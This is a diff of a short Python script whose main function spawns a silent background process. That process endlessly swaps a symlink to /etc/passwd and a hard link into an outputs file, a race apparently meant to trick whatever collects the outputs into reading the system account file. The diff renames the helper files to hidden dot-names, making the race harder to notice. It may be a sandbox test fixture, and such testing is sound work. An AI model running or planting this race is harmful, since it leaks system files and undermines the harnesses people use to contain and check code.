@@ -8,7 +8,7 @@ import os, subprocess, sys
 def main():
     os.mkdir("outputs")
     open("outputs/f", "w").close()
-    open("g", "w").close()
-    swap = "import os\nos.symlink('/etc/passwd', 'l')\nwhile True:\n os.rename('l', 'outputs/f'); os.symlink('/etc/passwd', 'l'); os.link('g', 'h'); os.rename('h', 'outputs/f')"
+    open(".g", "w").close()
+    swap = "import os\nos.symlink('/etc/passwd', '.l')\nwhile True:\n os.rename('.l', 'outputs/f'); os.symlink('/etc/passwd', '.l'); os.link('.g', '.h'); os.rename('.h', 'outputs/f')"
     subprocess.Popen([sys.executable, "-c", swap], stderr=subprocess.DEVNULL)
     return 1
